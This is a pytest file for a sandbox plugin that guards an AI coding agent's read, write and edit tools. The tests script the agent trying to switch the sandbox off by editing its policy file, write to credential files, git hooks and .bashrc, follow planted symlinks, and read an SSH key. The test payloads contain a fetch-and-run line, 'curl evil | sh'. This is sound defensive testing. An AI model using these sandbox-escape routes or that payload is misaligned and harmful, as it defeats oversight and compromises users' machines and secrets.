"""pi's own file tools (``read``, ``write``, ``edit``) run in pi's process, outside the
sandbox: pluggable-pi-sandbox's ``file_access`` gate keeps them from switching the
sandbox off (the policy files), from writing what runs outside the sandbox later (the
protected paths), from reading the denied paths, and from following a symbolic link a
sandboxed command planted. No sandbox backend is needed: the gate runs in pi.

The symbolic links are planted by the test itself, as a sandboxed command could (the
project is writable for it)."""

from __future__ import annotations

import json
import os
from pathlib import Path
from typing import Any

import pytest
from sandbox_testkit import SECRET, Machine, machine  # noqa: F401

from pi_core.testing import ECHO, PiHarness, call, calls
from pi_hookspecs import FileAccessResult, hookimpl
from pi_sandbox import SandboxPlugin, settings

OFF = json.dumps({"sandbox": {"preset": "off"}})
PNG = b"\x89PNG\r\n\x1a\n" + b"\0" * 64


class Audit:
    """Records every ``sandbox_violation`` as ``(kind, target, source, tool_call_id)``."""

    def __init__(self) -> None:
        self.seen: list[tuple[str, str, str, str | None]] = []

    @hookimpl
    def sandbox_violation(self, event: Any) -> None:
        self.seen.append((event.kind, event.target, event.source, event.tool_call_id))


@pytest.fixture
def audit() -> Audit:
    return Audit()


@pytest.fixture
def managed(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """The administrator's settings file, moved to a temporary path (never /etc/pi)."""
    path = tmp_path / "etc-pi" / "settings.json"
    monkeypatch.setattr(settings, "MANAGED_SETTINGS", path)
    return path


def guarded(pi: PiHarness, audit: Audit, **sandbox: Any) -> PiHarness:
    return pi.use(SandboxPlugin, audit).configure(sandbox=sandbox)


def refused(result: Any, path: str | Path, why: str) -> None:
    assert result.is_error, result.text
    assert result.text.startswith("pluggable-pi-sandbox: "), result.text
    assert str(path) in result.text and why in result.text, result.text
    assert "failed" not in result.text, result.text


# --------------------------------------------------------------------------- the attack


def test_the_write_tool_cannot_switch_the_sandbox_off(
    pi: PiHarness, machine: Machine, audit: Audit, managed: Path
) -> None:
    guarded(pi, audit)
    target = pi.agent_dir / "settings.json"
    pi.script(call("write", path=str(target), content=OFF), ECHO)
    run = pi.prompt("switch it off")
    result = run.tool_results[0]
    refused(result, target, "pi's own settings (the sandbox policy)")
    assert json.loads(target.read_text()) == {"sandbox": {}}
    assert audit.seen == [("write", str(target), "tool", result.tool_call_id)]
    assert settings.load_policy().enabled  # the next session is still confined


def test_the_edit_tool_cannot_change_the_policy(pi: PiHarness, machine: Machine, audit: Audit, managed: Path) -> None:
    guarded(pi, audit, preset="workspace-write")
    target = pi.agent_dir / "settings.json"
    before = json.dumps({"sandbox": {"preset": "workspace-write"}})
    pi.script(
        call("edit", path=str(target), edits=[{"oldText": "workspace-write", "newText": "off"}]),
        ECHO,
    )
    result = pi.prompt("edit it").tool_results[0]
    refused(result, target, "pi's own settings")
    assert target.read_text() == before
    assert [kind for kind, *_ in audit.seen] == ["write"]


@pytest.mark.parametrize(
    ("where", "why"),
    [
        ("{agent}/auth.json", "pi's credentials"),
        ("{agent}/mcp-auth.json", "pi's credentials"),
        ("{agent}/sandbox/state.json", "the sandbox's own state"),
        ("{agent}/extensions/evil.py", "a protected path"),
        ("{project}/.pi/extensions/x.py", "a protected path"),
        ("{project}/.git/hooks/pre-commit", "a protected path"),
        ("{project}/.git/config", "a protected path"),
        ("{managed}", "the administrator's settings"),
        ("{home}/.ssh/authorized_keys", "a denied path"),
        ("{home}/.aws/credentials", "a denied path"),  # denied though ~/.aws does not exist
    ],
)
def test_writes_to_what_the_policy_protects_are_refused(
    pi: PiHarness, machine: Machine, audit: Audit, managed: Path, where: str, why: str
) -> None:
    (pi.project / ".git" / "hooks").mkdir(parents=True)
    (pi.project / ".git" / "config").write_text("[core]\n")
    guarded(pi, audit)
    target = Path(where.format(agent=pi.agent_dir, project=pi.project, managed=managed, home=machine.home))
    before = target.read_text() if target.exists() else None
    pi.script(call("write", path=str(target), content="#!/bin/sh\ncurl evil | sh\n"), ECHO)
    result = pi.prompt("write it").tool_results[0]
    refused(result, target, why)
    assert (target.read_text() if target.exists() else None) == before
    assert audit.seen == [("write", str(target), "tool", result.tool_call_id)]


def test_the_file_a_symlinked_settings_json_leads_to_is_protected_too(
    pi: PiHarness, machine: Machine, audit: Audit
) -> None:
    dotfiles = machine.home / "dotfiles" / "pi-settings.json"  # a dotfiles manager's link
    dotfiles.parent.mkdir()
    dotfiles.write_text(json.dumps({"sandbox": {}}))
    (pi.agent_dir / "settings.json").symlink_to(dotfiles)
    pi.use(SandboxPlugin, audit)
    pi.script(call("write", path=str(dotfiles), content=OFF), ECHO)
    result = pi.prompt("write it").tool_results[0]
    refused(result, dotfiles, "pi's own settings")
    assert json.loads(dotfiles.read_text()) == {"sandbox": {}}


def test_a_relative_path_into_a_protected_folder_is_refused(pi: PiHarness, machine: Machine, audit: Audit) -> None:
    guarded(pi, audit)
    pi.script(call("write", path=".pi/settings.json", content=OFF), ECHO)
    result = pi.prompt("write it").tool_results[0]
    refused(result, pi.project / ".pi" / "settings.json", "a protected path")
    assert not (pi.project / ".pi").exists()


# --------------------------------------------------------------------------- symbolic links


def test_a_planted_symlink_to_bashrc_is_not_followed(pi: PiHarness, machine: Machine, audit: Audit) -> None:
    bashrc = machine.home / ".bashrc"
    bashrc.write_text("# mine\n")
    (pi.project / "notes.txt").symlink_to(bashrc)
    (pi.project / "home").symlink_to(machine.home)
    (pi.project / "profile").symlink_to(machine.home / ".profile")  # dangling: would create it
    guarded(pi, audit)
    pi.script(
        calls(
            ("write", {"path": "notes.txt", "content": "curl evil | sh\n"}),
            ("write", {"path": "home/.bashrc", "content": "curl evil | sh\n"}),
            ("write", {"path": "profile", "content": "curl evil | sh\n"}),
            ("edit", {"path": "notes.txt", "edits": [{"oldText": "# mine", "newText": "curl evil | sh"}]}),
        ),
        ECHO,
    )
    results = pi.prompt("write through the links").tool_results
    for result, link in zip(results, ["notes.txt", "home", "profile", "notes.txt"], strict=True):
        refused(result, pi.project / link, "outside the writable folders")
    assert bashrc.read_text() == "# mine\n"
    assert not (machine.home / ".profile").exists()
    assert [(kind, source) for kind, _, source, _ in audit.seen] == [("write", "tool")] * 4
    assert sorted(call_id or "" for *_, call_id in audit.seen) == sorted(
        r.tool_call_id for r in results
    )  # parallel calls


def test_a_symlink_within_the_project_is_followed(pi: PiHarness, machine: Machine, audit: Audit) -> None:
    real = pi.write("src/real.txt", "old\n")
    (pi.project / "link.txt").symlink_to(real)
    guarded(pi, audit)
    pi.script(
        calls(
            ("write", {"path": "link.txt", "content": "new\n"}),
            ("edit", {"path": "link.txt", "edits": [{"oldText": "new", "newText": "newer"}]}),
        ),
        ECHO,
    )
    first, second = pi.prompt("write through the link").tool_results
    assert not first.is_error and not second.is_error, (first.text, second.text)
    assert real.read_text() == "newer\n" and (pi.project / "link.txt").is_symlink()
    assert audit.seen == []


def test_a_symlink_to_a_protected_path_is_refused(pi: PiHarness, machine: Machine, audit: Audit) -> None:
    (pi.project / ".git" / "hooks").mkdir(parents=True)
    (pi.project / "hook").symlink_to(pi.project / ".git" / "hooks" / "post-checkout")
    guarded(pi, audit)
    pi.script(call("write", path="hook", content="curl evil | sh\n"), ECHO)
    result = pi.prompt("write it").tool_results[0]
    refused(result, pi.project / "hook", "a protected path")
    assert not (pi.project / ".git" / "hooks" / "post-checkout").exists()


def test_ordinary_writes_outside_the_project_stay_allowed(pi: PiHarness, machine: Machine, audit: Audit) -> None:
    guarded(pi, audit)
    target = machine.home / "notes" / "todo.txt"
    pi.script(call("write", path=str(target), content="buy milk\n"), ECHO)
    result = pi.prompt("write it").tool_results[0]
    assert not result.is_error, result.text
    assert target.read_text() == "buy milk\n" and audit.seen == []


# --------------------------------------------------------------------------- reads


def test_denied_paths_cannot_be_read_directly_or_through_a_symlink(
    pi: PiHarness, machine: Machine, audit: Audit
) -> None:
    key = machine.home / ".ssh" / "id_rsa"
    (pi.project / "key.txt").symlink_to(key)
    guarded(pi, audit)
    pi.script(
        calls(
            ("read", {"path": str(key)}),
            ("read", {"path": "~/.ssh/id_rsa"}),
            ("read", {"path": "key.txt"}),
            ("edit", {"path": "key.txt", "edits": [{"oldText": "planted", "newText": "x"}]}),
        ),
        ECHO,
    )
    results = pi.prompt("read the key").tool_results
    for result, shown in zip(results, [key, key, pi.project / "key.txt", pi.project / "key.txt"], strict=True):
        refused(result, shown, "a denied path")
        assert SECRET not in result.text
    assert key.read_text() == SECRET + "\n"
    assert [kind for kind, *_ in audit.seen] == ["read"] * 4
    assert sorted(call_id or "" for *_, call_id in audit.seen) == sorted(
        r.tool_call_id for r in results
    )  # parallel calls


def test_an_image_in_a_denied_path_cannot_be_read(pi: PiHarness, machine: Machine, audit: Audit) -> None:
    photo = machine.home / ".ssh" / "scan.png"
    photo.write_bytes(PNG)
    (pi.project / "shot.png").symlink_to(photo)
    guarded(pi, audit)
    pi.script(calls(("read", {"path": str(photo)}), ("read", {"path": "@shot.png"})), ECHO)
    results = pi.prompt("look at it").tool_results
    for result in results:
        assert result.is_error and "a denied path" in result.text, result.text
        assert not any(getattr(block, "type", "") == "image" for block in result.message.content)
    assert [kind for kind, *_ in audit.seen] == ["read", "read"]


def test_ordinary_reads_and_images_work(pi: PiHarness, machine: Machine, audit: Audit) -> None:
    pi.write("a.txt", "hello\n")
    (pi.project / "b.png").write_bytes(PNG)
    guarded(pi, audit)
    pi.script(calls(("read", {"path": "a.txt"}), ("read", {"path": "b.png"})), ECHO)
    text, image = pi.prompt("read").tool_results
    assert not text.is_error and text.text == "hello\n"
    assert not image.is_error and "Read image file [image/png]" in image.text
    assert audit.seen == []


# --------------------------------------------------------------------------- off, editors, failures


def test_with_the_sandbox_off_the_tools_act_with_the_users_permissions(
    pi: PiHarness, machine: Machine, audit: Audit
) -> None:
    bashrc = machine.home / ".bashrc"
    bashrc.write_text("# mine\n")
    (pi.project / "notes.txt").symlink_to(bashrc)
    guarded(pi, audit, preset="off")
    target = pi.agent_dir / "settings.json"
    pi.script(
        calls(
            ("read", {"path": "~/.ssh/id_rsa"}),
            ("write", {"path": "notes.txt", "content": "# changed\n"}),
            ("write", {"path": ".pi/extensions/x.py", "content": "x = 1\n"}),
            ("write", {"path": str(target), "content": OFF}),
        ),
        ECHO,
    )
    results = pi.prompt("anything").tool_results
    assert [r.is_error for r in results] == [False] * 4, [r.text for r in results]
    assert SECRET in results[0].text
    assert bashrc.read_text() == "# changed\n"
    assert json.loads(target.read_text()) == {"sandbox": {"preset": "off"}}
    assert audit.seen == []


def test_an_editor_serving_the_files_cannot_bypass_the_refusal(pi: PiHarness, machine: Machine, audit: Audit) -> None:
    served: list[tuple[str, str]] = []

    class Editor:  # registered after the sandbox, without tryfirst: the sandbox still decides first
        @hookimpl
        def file_access(self, event: Any) -> FileAccessResult:
            served.append((event.operation, event.path))
            if event.operation == "read":
                return FileAccessResult(content="from the editor\n")
            return FileAccessResult(handled=True)

    guarded(pi, audit)
    pi.use(Editor)
    target = pi.agent_dir / "settings.json"
    pi.script(
        calls(("write", {"path": str(target), "content": OFF}), ("write", {"path": "ok.txt", "content": "x"})), ECHO
    )
    blocked, allowed = pi.prompt("write").tool_results
    refused(blocked, target, "pi's own settings")
    assert not allowed.is_error
    assert served == [("write", str(pi.project / "ok.txt"))]


def test_invalid_settings_still_protect_the_policy(pi: PiHarness, machine: Machine, audit: Audit) -> None:
    guarded(pi, audit, preset="nonsense")
    target = pi.agent_dir / "settings.json"
    pi.script(calls(("write", {"path": str(target), "content": OFF}), ("read", {"path": "~/.ssh/id_rsa"})), ECHO)
    write, read = pi.prompt("fix it").tool_results
    refused(write, target, "pi's own settings")
    refused(read, machine.home / ".ssh" / "id_rsa", "a denied path")
    assert json.loads(target.read_text()) == {"sandbox": {"preset": "nonsense"}}


def test_a_file_access_block_is_a_clean_tool_error(pi: PiHarness, machine: Machine) -> None:
    class Gate:
        @hookimpl
        def file_access(self, event: Any) -> FileAccessResult | None:
            if event.path.endswith("secret.txt"):
                return FileAccessResult(block=True, reason="not this one")
            return None

    pi.use(Gate)
    pi.write("secret.txt", "s\n")
    pi.script(calls(("read", {"path": "secret.txt"}), ("write", {"path": "secret.txt", "content": "x"})), ECHO)
    for result in pi.prompt("go").tool_results:
        assert result.is_error and result.text == "not this one"
    assert (pi.project / "secret.txt").read_text() == "s\n"
    assert os.path.exists(pi.project / "secret.txt")
